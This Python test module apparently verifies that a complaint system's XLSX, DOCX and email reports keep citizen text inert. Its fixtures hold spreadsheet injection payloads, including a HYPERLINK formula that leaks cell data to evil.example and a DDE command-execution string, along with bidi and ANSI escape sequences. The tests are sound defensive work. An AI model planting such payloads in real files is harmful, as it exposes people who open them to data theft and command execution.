"""Issue 11 points 6 and 7 in the reports: complaint text reaches XLSX cells, DOCX tables and the
weekly email; it is shown exactly, never evaluated, and its control/bidi characters are escaped.

Before: a summary starting with `=` was stored as a formula (openpyxl infers it), "#N/A" as an
error value, and an ANSI escape made openpyxl refuse the whole daily report.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import docx
import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from sqlalchemy import update

from mailflow.adapters.db.engine import Database
from mailflow.adapters.db.models import Case
from mailflow.bootstrap import build_calendar
from mailflow.config.directory_file import load_directory
from mailflow.config.model import Settings
from mailflow.config.sop_file import load_sop
from mailflow.domain.periods import parse_period
from mailflow.resources import starter
from mailflow.services.reports import ReportContext, generate_report
from mailflow.services.reports.weekly_email import build_weekly_email
from tests.reports.seed import at, seed_history

NOW = at("2027-01-04", "08:00")
# What a citizen can type at the start of a complaint, and what spreadsheets do with it.
FORMULAS = (
    "=1+1",
    "+62 812 3456 7890 mohon ditelepon",
    "-5 hari lampu mati",
    "@kadis mohon dibaca",
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk detail")',
    "=cmd|' /C calc'!A0",
    "\uff1dSUM(A1:A9)",  # full-width equals sign
    "\uff0b62 812",
    "#N/A",
    "=1+1\n=2+2 baris kedua",
)
ESCAPES = (
    ("Lampu \u202emati\u202c di Jl. Ahmad Yani", "Lampu \\u202emati\\u202c di Jl. Ahmad Yani"),
    ("Sampah \x1b[31mMERAH\x1b[0m menumpuk", "Sampah \\u001b[31mMERAH\\u001b[0m menumpuk"),
    ("\t=1+1 dengan tab", " =1+1 dengan tab"),
)
RAW_UNSAFE = ("\u202e", "\u202c", "\x1b")


Contexts = Callable[[datetime], ReportContext]


@pytest.fixture
def contexts(database: Database, tmp_path: Path) -> Contexts:
    """The reports tests' seeded history (tests/reports/seed.py) plus the hostile complaints,
    and a report context at a given moment."""
    settings = Settings()
    calendar, sop = build_calendar(settings), load_sop(None)
    seed_history(database, calendar, sop)
    _hostile_history(database)
    directory = load_directory(starter("directory.yaml"), "id")

    def make(now: datetime) -> ReportContext:
        return ReportContext(database=database, calendar=calendar, sop=sop, directory=directory, lang="id",
                             now=now, output_root=tmp_path / "reports")  # fmt: skip

    return make


def _hostile_history(database: Database) -> None:
    """Hostile complaints received on Monday 21 December 2026, and hostile subjects on the cases
    that are overdue at NOW (so they reach every report's overdue table and the weekly email)."""
    texts = [*FORMULAS, *(raw for raw, _ in ESCAPES)]
    received = at("2026-12-21", "09:00")
    with database.transaction() as session:
        for index, text in enumerate(texts, start=1):
            session.add(
                Case(
                    number=f"LPR-2026-{900 + index:05d}", channel="email", subject=text, summary=text,
                    category="Infrastruktur", status="open", received_at=received, created_at=received,
                    updated_at=received,
                )
            )  # fmt: skip
        session.execute(update(Case).where(Case.number == "LPR-2026-00102").values(subject=ESCAPES[0][0]))
        session.execute(update(Case).where(Case.number == "LPR-2026-00106").values(subject=FORMULAS[4]))


def _cells(path: Path) -> list[Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _check_xlsx(path: Path, expected: tuple[str, ...]) -> None:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.data_type == "e"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert text in texts, text
    for cell in cells:
        if isinstance(cell.value, str):
            assert not any(ch in cell.value for ch in RAW_UNSAFE), cell.coordinate
            if cell.value.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b")):
                assert cell.quotePrefix, cell.coordinate  # stays text when someone edits it


def _docx_text(path: Path) -> str:
    document = docx.Document(str(path))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(p.text for p in document.paragraphs), *cells])


def test_daily_report_keeps_complaint_text_as_text(contexts: Contexts) -> None:
    _report, files = generate_report(
        contexts(NOW), "daily", parse_period("daily", "2026-12-21", date(2027, 1, 4))
    )
    assert files.xlsx is not None and files.docx is not None
    expected = (*FORMULAS, *(shown for _, shown in ESCAPES))
    _check_xlsx(files.xlsx, expected)
    text = _docx_text(files.docx)
    for shown in expected:
        assert shown.split("\n")[0] in text
    assert not any(ch in text for ch in RAW_UNSAFE)


@pytest.mark.parametrize(
    ("kind", "name"),
    [("monthly", "2026-12"), ("semester", "2026-S2"), ("yearly", "2026"), ("weekly", "2026-W52")],
)
def test_overdue_tables_keep_subjects_as_text(contexts: Contexts, kind: str, name: str) -> None:
    _report, files = generate_report(contexts(NOW), kind, parse_period(kind, name, date(2027, 1, 4)))
    assert files.xlsx is not None and files.docx is not None
    _check_xlsx(files.xlsx, (FORMULAS[4], ESCAPES[0][1]))
    text = _docx_text(files.docx)
    assert FORMULAS[4] in text and ESCAPES[0][1] in text
    assert not any(ch in text for ch in RAW_UNSAFE)


def test_weekly_email_shows_escaped_subjects(contexts: Contexts) -> None:
    now = at("2026-12-28", "07:30")
    email = build_weekly_email(contexts(now), parse_period("weekly", "2026-W52", now.date()))
    for body in (email.text, email.html):
        assert not any(ch in body for ch in RAW_UNSAFE)
    assert ESCAPES[0][1] in email.html  # LPR-2026-00102 is overdue (the text part shows no subjects)
    _check_xlsx(email.xlsx, (ESCAPES[0][1],))
